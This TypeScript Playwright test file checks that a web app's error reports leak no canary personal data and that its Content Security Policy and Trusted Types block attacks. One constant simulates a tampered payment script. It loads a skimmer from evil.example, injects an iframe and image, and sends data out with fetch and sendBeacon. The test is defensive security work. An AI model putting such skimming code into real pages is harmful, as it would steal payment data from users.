import type { Page } from '@playwright/test';
import { expect } from '../../e2e/support/test';
import { MATH } from '../../e2e/support/businesses';
import { firstUse } from '../../e2e/support/firstUse';
import type { StackControl } from '../StackControl';
import { test } from './liveTest';

/** Personal data and secrets that no report may contain. */
const CANARIES = [
  'Noor Haddad',
  'נור חדאד',
  'noor.haddad@example.com',
  '+972-54-123-4567',
  '12 Herzl Street',
  '3498838',
  '514123456',
  '4242 4242 4242 4242',
  'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJub29yIn0.c2lnbmF0dXJl',
  'https://amin.example/auth/callback?code=SplxlOBeZQQYbYS6WxSbIA#state=af0ifjsldkj',
] as const;
const SECRETS = CANARIES.join(' ');

type CollectedEvent = Awaited<ReturnType<StackControl['reports']>>['events'][number];

interface Expected {
  readonly event: CollectedEvent['event'];
  readonly route?: string;
  readonly detail?: string | RegExp;
}

const isExpected =
  ({ event, route, detail }: Expected) =>
  (reported: CollectedEvent): boolean =>
    reported.event === event &&
    (route === undefined || reported.route === route) &&
    (detail === undefined ||
      (typeof detail === 'string' ? reported.detail === detail : detail.test(reported.detail)));

/** Waits for an event. Also checks that no report contains a canary. */
async function expectReported(stack: StackControl, expected: Expected): Promise<CollectedEvent> {
  await expect
    .poll(async () => JSON.stringify((await stack.reports()).events.filter(isExpected(expected))), {
      timeout: 20_000,
      intervals: [100],
    })
    .not.toBe('[]');
  const { events } = await stack.reports();
  const text = JSON.stringify(events);
  for (const word of CANARIES.flatMap((canary) => [canary, ...canary.split(/[ @?#.=:/]+/u)]))
    if (word.length > 5 && word !== 'example' && word !== 'callback') expect(text).not.toContain(word);
  const event = events.find(isExpected(expected));
  if (event === undefined) throw new Error('The expected event is missing, although it was reported before.');
  expect(event).toMatchObject({ version: expect.stringMatching(/^[\da-f]{12}$|^unknown$/u), language: 'en' });
  return event;
}

const openHome = async (page: Page): Promise<void> => {
  await page.goto('/');
  await firstUse(page);
  await expect(page.locator('head style')).toHaveCount(0);
};

test.use({
  expectedReport:
    /\[amin\]|page error: |Policy violated|Content Security Policy|ERR_|404|violates|^csp |This document requires/u,
});

test('an error thrown while rendering is reported with its stack frames', async ({ page, stack }) => {
  await page.addInitScript((secrets) => {
    window.matchMedia = () => {
      throw new TypeError(`Cannot read properties of undefined (reading '${secrets}')`);
    };
  }, SECRETS);
  await page.goto('/about');
  await firstUse(page);
  const { detail, places = [] } = await expectReported(stack, { event: 'render-error', route: 'about' });
  expect(detail).toMatch(/^TypeError: Cannot read properties of undefined \(reading '…/u);
  expect(places.length).toBeGreaterThan(2);
  for (const place of places) expect(place).toMatch(/^\/assets\/[\w.-]+\.js:\d+:\d+$/u);
});

test('an uncaught error is reported, also when it occurs before the application has loaded', async ({
  page,
  stack,
}) => {
  await page.addInitScript((secrets) => {
    addEventListener('DOMContentLoaded', () => {
      throw new RangeError(`Invalid time value ${secrets}`);
    });
  }, SECRETS);
  await openHome(page);
  await expectReported(stack, {
    event: 'uncaught-error',
    route: 'home',
    detail: /^RangeError: Invalid time value …/u,
  });
  await page.evaluate((secrets) => {
    void Promise.reject(new Error(`Failed to fetch ${secrets}`));
  }, SECRETS);
  await expectReported(stack, {
    event: 'unhandled-rejection',
    detail: /^Error: Failed to fetch …/u,
  });
});

test('an error that occurs just before the page is left is still reported', async ({ page, stack }) => {
  await openHome(page);
  const [line] = await Promise.all([
    page.waitForEvent('console', (message) => message.text().startsWith('[amin]')),
    page.evaluate(() => {
      void Promise.reject(new Error('Failed to fetch'));
    }),
  ]);
  expect(line.text()).toContain('unhandled-rejection');
  await page.goto('/about');
  await expectReported(stack, {
    event: 'unhandled-rejection',
    detail: 'Error: Failed to fetch',
    route: 'home',
  });
});

test('harmless errors of the browser and of extensions are not reported', async ({ page, stack }) => {
  await openHome(page);
  await page.evaluate(() => {
    void Promise.reject(new DOMException('The operation was aborted', 'AbortError'));
    dispatchEvent(
      new ErrorEvent('error', { message: 'ResizeObserver loop completed with undelivered notifications.' }),
    );
    dispatchEvent(new ErrorEvent('error', { message: 'Odd', filename: 'chrome-extension://abc/content.js' }));
    void Promise.reject(new Error('Illegal invocation'));
  });
  await expectReported(stack, { event: 'unhandled-rejection', detail: 'Error: Illegal invocation' });
  expect((await stack.reports()).events).toHaveLength(1);
});

test('at most ten reports a minute are sent, and reports of the same second share one request', async ({
  page,
  stack,
}) => {
  await openHome(page);
  await page.evaluate(() => {
    for (let times = 0; times < 25; times += 1) void Promise.reject(new Error('Illegal invocation'));
  });
  await expectReported(stack, { event: 'unhandled-rejection' });
  const { events, requests } = await stack.reports();
  expect([events.length, requests]).toEqual([10, 1]);
});

test('an unreadable response is reported without its content (threats T19)', async ({ amin, stack }) => {
  await amin.open('/');
  await amin.signIn();
  await stack.api.addFaults('listBusinesses', { fault: 'html' });
  await amin.page.evaluate(() => {
    for (const key of Object.keys(sessionStorage))
      if (key.startsWith('amin.')) sessionStorage.removeItem(key);
  });
  await amin.page.reload();
  await expectReported(stack, { event: 'unreadable-data', detail: '200 text/html', route: 'dashboard' });
});

test('a policy violation is reported without the URL (threats T3 and T9)', async ({ page, stack }) => {
  await openHome(page);
  await page
    .evaluate((secrets) => {
      const picture = new Image();
      picture.src = `https://pictures.example/?q=${encodeURIComponent(secrets)}`;
      document.body.append(picture);
      Reflect.set(document.createElement('div'), 'innerHTML', '<b>markup</b>');
    }, SECRETS)
    .catch(() => undefined);
  await expectReported(stack, { event: 'policy-violation', detail: 'img-src: other origin' });
  await expectReported(stack, {
    event: 'policy-violation',
    detail: 'require-trusted-types-for: trusted-types-sink',
  });
});

/** What a changed payment script could try. Only its last line is harmless, and shows that the script has run. */
const CHANGED_SCRIPT = `
  const script = document.createElement('script');
  script.src = 'https://evil.example/skimmer.js';
  const inline = document.createElement('script');
  inline.textContent = 'window.skimmed = "inline script"';
  document.head.append(script, inline);
  document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/typed" onerror="skimmed = 1">');
  document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/card-fields"></iframe>');
  fetch('https://evil.example/typed', { method: 'POST', body: 'typed' }).catch(() => undefined);
  navigator.sendBeacon('https://evil.example/typed', 'typed');
  try { eval('window.skimmed = "eval"'); } catch {}
  document.documentElement.dataset.changedScript = 'has run';
`;

test('a changed payment script loads no other script and sends nothing to another site, and what it tries is reported (threats T9)', async ({
  amin,
  context,
  page,
  stack,
}) => {
  const sent: string[] = [];
  await context.route('https://evil.example/**', async (route) => {
    sent.push(route.request().url());
    await route.fulfill({ body: 'window.skimmed = "script"', contentType: 'text/javascript' });
  });
  await context.route('**/v2/chargebee.js', async (route) =>
    route.fulfill({ body: CHANGED_SCRIPT, contentType: 'text/javascript' }),
  );
  await amin.open('/');
  await amin.signIn();
  await amin.wizard.open(MATH);
  await amin.wizard.goToPayment();
  await expect(page.locator('html')).toHaveAttribute('data-changed-script', 'has run');
  for (const detail of [
    'script-src-elem: other origin',
    'script-src-elem: inline',
    'img-src: other origin',
    'frame-src: other origin',
    'connect-src: other origin',
  ])
    await expectReported(stack, { event: 'policy-violation', detail });
  expect(await page.evaluate(() => Reflect.get(window, 'skimmed'))).toBeUndefined();
  expect(sent).toEqual([]);
});

test("the service worker's Trusted Types policy is the only one that can be created", async ({
  page,
  stack,
}) => {
  await openHome(page);
  const made = await page.evaluate(() => {
    const factory: unknown = Reflect.get(window, 'trustedTypes');
    if (typeof factory !== 'object' || factory === null) return ['no Trusted Types'];
    const create: unknown = Reflect.get(factory, 'createPolicy');
    return ['amin-device', 'default', 'other'].filter((name) => {
      try {
        return typeof create === 'function' && Reflect.apply(create, factory, [name, {}]) !== undefined;
      } catch {
        return false;
      }
    });
  });
  expect(made).toEqual(['amin-device']);
  await expectReported(stack, { event: 'policy-violation', detail: 'trusted-types: trusted-types-policy' });
});

test('an identity provider that is down is reported', async ({ amin, context, stack }) => {
  await context.route('https://localhost:*/**', async (route) => route.abort());
  await amin.open('/');
  await amin.shell.logInButton.click();
  await expectReported(stack, { event: 'sign-in-not-started', route: 'home' });
});
